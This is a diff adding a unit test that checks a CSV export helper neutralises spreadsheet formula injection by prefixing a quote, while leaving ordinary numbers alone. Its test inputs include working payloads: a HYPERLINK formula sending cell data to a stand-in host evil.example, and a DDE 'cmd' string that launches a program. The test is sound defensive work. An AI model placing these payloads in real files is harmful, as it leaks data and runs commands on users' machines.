@@ -228,6 +228,28 @@ describe('CSV and JSON export', () => {
     expect(csvField(0.1 + 0.2)).toBe('0.3');
     expect(csvLine(['\\frac{a}{b}', 1, '"q"'])).toBe('\\frac{a}{b},1,"""q"""');
   });
+  it('guards text a spreadsheet would run as a formula with a leading quote; numbers stay numbers', () => {
+    // OWASP CSV injection: cells starting with =, +, -, @, tab or carriage return
+    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"x")')).toBe('"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")"');
+    expect(csvField('+1+cmd|\' /C calc\'!A0')).toBe("'+1+cmd|' /C calc'!A0");
+    expect(csvField('- \\frac { 1 } { 2 }')).toBe("'- \\frac { 1 } { 2 }");
+    expect(csvField('@SUM(A1:A2)')).toBe("'@SUM(A1:A2)");
+    expect(csvField('\t=1+1')).toBe("'\t=1+1");
+    expect(csvField('\r=1+1')).toBe('"\'\r=1+1"');
+    expect(csvField('-1+2')).toBe("'-1+2"); // arithmetic, not a number
+    // plain numbers, as text or as numbers, are left alone
+    for (const n of ['-0.5', '+3', '-1e-3', '-.5', '0']) expect(csvField(n)).toBe(n);
+    expect(csvField(-0.5)).toBe('-0.5');
+    expect(csvField(-1e-7)).toBe('-1e-7');
+    // only the first character counts
+    expect(csvField('a = b - c')).toBe('a = b - c');
+    // and the guarded cell reads back as the quote plus the text
+    const rows = [row({ latex: '=1+2' }), row({ latex: '-x', value: -0.5 })];
+    const parsed = parseCsv(sweepCsv(rows));
+    expect(parsed[1][3]).toBe("'=1+2");
+    expect(parsed[2][1]).toBe('-0.5');
+    expect(parsed[2][3]).toBe("'-x");
+  });
   it('formatNumber drops float noise and non-finite values', () => {
     expect(formatNumber(0.30000000000000004)).toBe('0.3');
     expect(formatNumber(100)).toBe('100');
